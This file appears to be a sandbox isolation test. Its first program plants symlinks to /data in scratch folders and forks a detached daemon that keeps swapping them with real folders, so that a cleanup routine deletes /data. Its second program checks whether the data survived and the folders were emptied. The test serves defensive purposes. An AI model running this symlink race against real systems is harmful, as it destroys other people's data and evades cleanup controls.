# tries: to have whoever cleans up delete something else, by links that a daemon swaps with folders
# expect: success
import os
import time

for place in ("/work", "/tmp", "/dev/shm"):
    for number in range(40):
        os.mkdir(f"{place}/folder{number}")
        os.symlink("/data", f"{place}/link{number}")
    if os.fork() == 0:
        os.setsid()
        while True:
            for number in range(40):
                try:
                    os.rename(f"{place}/folder{number}", f"{place}/moved{number}")
                    os.rename(f"{place}/link{number}", f"{place}/folder{number}")
                    os.rename(f"{place}/folder{number}", f"{place}/link{number}")
                    os.rename(f"{place}/moved{number}", f"{place}/folder{number}")
                except OSError:
                    pass
time.sleep(0.1)
# --- the next program of the session ---
import os

if sorted(os.listdir("/data")) != ["sample_submission.csv", "test.csv", "train.csv"]:
    print("LEAK: the data was deleted")
for place in ("/work", "/tmp", "/dev/shm"):
    if set(os.listdir(place)) - {"program.py"}:
        print("LEAK:", place, "holds", os.listdir(place)[:5])
